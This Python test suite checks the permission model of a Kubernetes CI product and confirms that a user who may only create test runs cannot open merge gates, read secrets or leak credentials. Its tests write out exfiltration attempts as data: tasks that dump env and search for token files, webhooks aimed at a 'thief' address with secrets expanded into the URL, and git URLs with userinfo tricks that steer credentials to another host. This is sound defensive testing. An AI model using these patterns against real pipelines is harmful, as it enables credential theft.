"""A person who may only create TestRuns opens no gate, reaches no credential, and has none sent anywhere."""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator
from typing import Any

import pytest

from cluster_at_hand import JsonObject, eventually
from command_line import dawg
from persons import Person, signed_in
from recorder import Recorder
from releases import Release, release_beside
from stories import Story, task

COMMITS = [letter * 40 for letter in "abcd"]  # the newest run for a commit decides, so each story has one of its own
TOKENS = {name: f"{name}-token-4711" for name in ("forge", "git", "chat", "hook")}
OVERRIDE, APPROVAL = "override.dawg.dev/gate", "approval.dawg.dev/ask"
NO_RETRY = {"infra": {"limit": 0}}


class Place:
    """A release with a gate, and all of the credentials that there are."""

    def __init__(self, release: Release, recorder: Recorder, mallory: Person, lead: Person) -> None:
        self.release, self.recorder, self.mallory, self.lead = release, recorder, mallory, lead
        self.story = Story(release.kubectl)

    @property
    def theirs(self) -> str:
        """The address that the credentials are for."""
        return self.recorder.address("forge")

    @property
    def elsewhere(self) -> str:
        """The address of somebody who would like to have them."""
        return self.recorder.address("thief")

    def shown_elsewhere(self) -> list[str]:
        """Requests that came to the other address with a credential, in whatever place."""
        return [
            f"{one['path']} {one['headers']}" for one in self.recorder.requests("thief")
            if "Authorization" in one["headers"] or "Private-Token" in one["headers"] or has_a_credential(one)
        ]  # fmt: skip


def has_a_credential(request: JsonObject) -> bool:
    text = json.dumps(request)
    encoded = [base64.b64encode(f"robot:{token}".encode()).decode() for token in TOKENS.values()]
    return any(secret in text for secret in [*TOKENS.values(), *encoded])


@pytest.fixture(scope="module")
def place(test_image: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Place]:
    folder = tmp_path_factory.mktemp("people")
    values: dict[str, Any] = {
        "api": {"persistence": {"enabled": False}},
        "defaultPool": {"minAgents": 1, "maxAgents": 1, "slots": 8},
        "builtin": {"enabled": True, "maxAgents": 1, "forgeSecrets": ["forge"], "gitSecrets": ["git"],
                    "secrets": [{"name": "chat", "key": "url", "env": "CHAT"}]},
    }  # fmt: skip
    with release_beside(**values) as release:
        recorder = Recorder(release.kubectl, ("forge", "thief"))
        release.kubectl.apply(*recorder.objects(test_image), *secrets_of(recorder), gating())
        mallory = signed_in(release.kubectl, "mallory", "dawg-runner", folder)
        lead = signed_in(release.kubectl, "lead", "dawg-workflow-admin", folder)
        place = Place(release, recorder, mallory, lead)
        eventually(lambda: release.kubectl.get("agentpools", "builtin")["status"].get("readyAgents"), within=120)
        eventually(lambda: place.mallory.kubectl("get", "testruns.dawg.dev").returncode == 0, within=60)
        yield place


def secrets_of(recorder: Recorder) -> list[JsonObject]:
    """A forge's, a repository's, a chat's and a webhook's, each for the one address and with its own permission."""
    theirs = recorder.address("forge")
    host = theirs.removeprefix("http://")

    def secret(name: str, content: JsonObject, **metadata: JsonObject) -> JsonObject:
        return {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": name, **metadata}, "stringData": content}

    return [
        secret("forge", {"type": "gitea", "url": theirs, "allow-http": "true", "token": TOKENS["forge"],
                         "repositories": "shop/*", "workflows": "checks"}, labels={"dawg.dev/for-steps": "true"}),
        secret("git", {"username": "robot", "password": TOKENS["git"]}, annotations={"dawg.dev/hosts": host}),
        secret("chat", {"url": f"{theirs}/chat/{TOKENS['chat']}"}, labels={"dawg.dev/for-steps": "true"}),
        secret("hook", {"secret": TOKENS["hook"]}, labels={"dawg.dev/for-webhooks": "true"}),
    ]  # fmt: skip


def gating() -> JsonObject:
    """The Workflow that may gate; somebody is asked in it."""
    spec = {"tasks": [{"name": "ask", "uses": "approve"}]}
    return {"apiVersion": "dawg.dev/v1alpha1", "kind": "Workflow", "metadata": {"name": "checks"}, "spec": spec}


def a_run(spec: JsonObject, **metadata: Any) -> JsonObject:
    return {"apiVersion": "dawg.dev/v1alpha1", "kind": "TestRun",
            "metadata": {"generateName": "some-", **metadata}, "spec": spec}  # fmt: skip


def of_the_workflow(url: str, commit: str = COMMITS[0], *, gate: bool = True) -> JsonObject:
    spec: JsonObject = {"workflowRef": {"name": "checks"}, "source": {"git": {"url": url, "revision": commit}}}
    return {**spec, "gate": {"repository": "shop/web", "context": "dawg/checks"}} if gate else spec


def test_the_recorder_sees_a_token_that_is_sent_where_it_belongs(place: Place) -> None:
    """What the other stories do not see would be seen."""
    place.lead.creates(a_run(of_the_workflow(f"{place.theirs}/shop/web.git")))

    eventually(lambda: [one for one in place.recorder.requests("forge") if has_a_credential(one)], within=90)


def test_no_gate_is_opened_nor_anything_else_than_runs_created(place: Place) -> None:
    mallory, me = place.mallory, place.mallory.name
    gated = of_the_workflow(f"{place.theirs}/shop/web.git", COMMITS[1])
    ungated = of_the_workflow(f"{place.theirs}/shop/web.git", COMMITS[1], gate=False)
    run = place.lead.creates(a_run(gated))
    create = ("create", "-f", "-")

    assert "needs the verb gate" in mallory.is_refused(*create, manifest=a_run(gated))
    for marks in (
        {"labels": {"dawg.dev/parent-uid": "u", "dawg.dev/root-uid": "u", "dawg.dev/schedule": "nightly"}},
        {"annotations": {"dawg.dev/trigger": "push", "dawg.dev/triggered-by": "git push", "dawg.dev/rerun-of": run}},
    ):
        assert "needs the verb gate" in mallory.is_refused(*create, manifest=a_run(gated, **marks))
    inline = {"gate": gated["gate"], "tasks": [task()]}
    assert "spec.gate needs spec.workflowRef" in mallory.is_refused(*create, manifest=a_run(inline))

    for annotation, said in (
        (OVERRIDE, f"Allowed by {me}: because I say so"),
        (OVERRIDE, f"Allowed by {place.lead.name}: because I say so"),
        (APPROVAL, f"Approved by {me}"),
        (APPROVAL, f"Approved by {place.lead.name}"),
    ):
        mallory.is_refused("annotate", "testruns.dawg.dev", run, f"{annotation}={said}")
        mallory.is_refused(*create, manifest=a_run(gated, annotations={annotation: said}))
        mallory.is_refused(*create, manifest=a_run(ungated, annotations={annotation: said}))
    passed = json.dumps({"status": {"verdict": "Passed", "mergeBlocked": False, "gate": {"state": "Open"}}})
    mallory.is_refused("patch", "testruns.dawg.dev", run, "--subresource=status", "--type=merge", "-p", passed)
    assert mallory.kubectl("patch", "testruns.dawg.dev", run, "--type=merge", "-p", passed).returncode == 0
    assert place.story.status(run)["mergeBlocked"]

    for kind, spec in (
        ("Workflow", {"tasks": [task()]}),
        ("AgentPool", {"executor": "Builtin", "builtin": {"forgeSecrets": [{"name": "forge"}]}}),
        ("Schedule", {"cron": ["0 2 * * *"], "runTemplate": {"spec": gated}}),
    ):
        manifest = {"apiVersion": "dawg.dev/v1alpha1", "kind": kind, "metadata": {"name": "mine"}, "spec": spec}
        mallory.is_refused(*create, manifest=manifest)
    mine = {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "mine"}}
    mallory.is_refused(*create, manifest=mine)
    mallory.is_refused("patch", "workflows.dawg.dev", "checks", "--type=merge", "-p", '{"spec":{"tasks":[]}}')
    mallory.is_refused("patch", "agentpools.dawg.dev", "builtin", "--type=merge", "-p", '{"spec":{"slots":1}}')
    _gets_at_nothing(place)

    assert not [c for c in place.story.status(run)["conditions"] if (c["type"], c["status"]) == ("Overridden", "True")]
    assert place.story.status(run)["gate"]["state"] == "Pending"


def _gets_at_nothing(place: Place) -> None:
    """Not around the product either."""
    mallory = place.mallory
    agents = place.release.kubectl.items("pods", "dawg.dev/role=agent")
    for name in ("forge", "git", "chat", "hook"):
        mallory.is_refused("get", "secret", name)
        mallory.is_refused("label", "secret", name, "dawg.dev/for-tests=true")
        mallory.is_refused("annotate", "secret", name, "dawg.dev/hosts=thief")
    for account in ("dawg-agent", "dawg-steps", "lead"):
        mallory.is_refused("create", "token", account)
    for pod in agents:
        mallory.is_refused("exec", pod["metadata"]["name"], "--", "env")
    mallory.is_refused("get", "testruns.dawg.dev", "--as=system:admin")


def test_a_task_sees_no_secret_that_is_not_for_tests(place: Place) -> None:
    runs = {}
    for name, key in (("forge", "token"), ("git", "password"), ("chat", "url"), ("hook", "secret")):
        reads = task("reads", "env; exit 1", secrets=[{"name": name, "key": key, "env": "MINE"}], retry=NO_RETRY)
        runs[name] = place.mallory.creates(a_run({"tasks": [reads]}))

    for name, run in runs.items():
        place.story.then_finishes(run)
        (entry,) = place.story.status(run)["tasks"]
        assert (entry["verdict"], entry["reason"]) == ("InfraError", "CredentialsNotAllowed"), (name, entry)


def test_no_credential_is_sent_to_another_host(place: Place) -> None:
    theirs, elsewhere = (one.removeprefix("http://") for one in (place.theirs, place.elsewhere))
    runs = [
        place.mallory.creates(a_run({
            "tasks": [made],
            "source": {"git": {"url": url, "revision": COMMITS[0], "credentialsSecretRef": {"name": secret}}},
        }))
        for secret in ("git", "forge", "chat")
        for url in (f"http://{elsewhere}/shop/web.git", f"http://{theirs}@{elsewhere}/shop/web.git")
        for made in (task(retry=NO_RETRY), {"name": "looks", "uses": "analyze-changes", "retry": NO_RETRY})
    ]  # fmt: skip
    odd = f"http://{elsewhere}\\@{theirs}/shop/web.git"
    odds = [
        place.mallory.kubectl("create", "-f", "-", "-o", "name", stdin=json.dumps(a_run({
            "tasks": [task(retry=NO_RETRY)],
            "source": {"git": {"url": odd, "revision": COMMITS[0], "credentialsSecretRef": {"name": "git"}}},
        })))
    ]  # fmt: skip

    for run in runs:
        (entry,) = place.story.then_finishes(run)["tasks"]
        assert entry["verdict"] in ("InfraError", "Failed"), entry
        assert entry["reason"] in ("CredentialsNotAllowed", "StepFailed"), entry
    for done in odds:
        if done.returncode == 0:
            place.story.then_finishes(done.stdout.strip().rpartition("/")[2])
    assert place.shown_elsewhere() == []


def test_no_step_sends_what_its_agents_hold_to_another_host(place: Place) -> None:
    steps: dict[str, JsonObject] = {
        "names": {"webhooks": [{"secret": "DAWG_CONTROLLER"}], "when": "Always"},
        "files": {"webhooks": ["file:///forge-secrets/forge/token"], "when": "Always"},
        "shells": {"webhooks": [f"{place.elsewhere}/$CHAT/$(CHAT)/${{CHAT}}/{{secret: CHAT}}"], "when": "Always"},
        "to": {"to": [f"json://{place.elsewhere.removeprefix('http://')}/?token=$(CHAT)"], "when": "Always"},
        "calculates": {"webhooks": [{"cel": f"'{place.elsewhere}/' + params.CHAT"}], "when": "Always"},
    }
    runs = [
        place.mallory.creates(a_run({"tasks": [{"name": name, "uses": "notify", "with": inputs, "retry": NO_RETRY}]}))
        for name, inputs in steps.items()
    ]  # fmt: skip
    pool = {"tasks": [task("in-their-pool", "env; find / -name token", pool="builtin", retry=NO_RETRY)]}
    runs.append(place.mallory.creates(a_run(pool)))

    for run in runs:
        place.story.then_finishes(run)
    assert place.story.status(runs[-1])["verdict"] != "Passed"
    assert place.shown_elsewhere() == []


def test_of_a_commit_on_another_host_nothing_is_published(place: Place) -> None:
    url = f"{place.elsewhere}/shop/web.git"
    plain = place.mallory.creates(a_run(of_the_workflow(url, COMMITS[3], gate=False)))
    gated = place.lead.creates(a_run(of_the_workflow(url, COMMITS[3])))

    eventually(
        lambda: (place.story.status(gated).get("gate") or {}).get("reason") == "GateNotAllowed", within=90,
        told=lambda: str(place.story.status(gated)),
    )  # fmt: skip
    eventually(lambda: place.story.status(plain).get("gate") == {"state": "NotGated"}, within=60)
    assert place.shown_elsewhere() == []


def test_who_may_gate_overrides_in_their_own_name_and_who_may_not_is_told_so(place: Place) -> None:
    gated = of_the_workflow(f"{place.theirs}/shop/web.git", COMMITS[2])
    run, namespace = place.lead.creates(a_run(gated)), place.release.namespace
    place.story.change("testruns.dawg.dev", run, cancelled=True)
    assert place.story.then_finishes(run)["mergeBlocked"]

    def override(who: Person, code: int) -> str:
        words = ("--reason", "the site is down", "--kubeconfig", str(who.kubeconfig), "--namespace", namespace)
        return dawg("override", run, *words, code=code)

    assert 'needs the verb gate on workflows.dawg.dev "checks"' in override(place.mallory, 4)
    assert f"overridden by {place.lead.name}" in override(place.lead, 0)

    eventually(lambda: place.story.status(run)["mergeBlocked"] is False, within=30)
    status = place.story.status(run)
    assert (status["verdict"], status["gate"]["state"], status["gate"]["reason"]) == ("Cancelled", "Open", "Overridden")
    told = " ".join(dawg("why", run, "--namespace", namespace).split())
    assert f"Overridden: the merge is allowed by {place.lead.name}: the site is down" in told
    events = [one for one in place.release.kubectl.items("events") if one["involvedObject"]["name"] == run]
    assert "Overridden" in {one["reason"] for one in events}
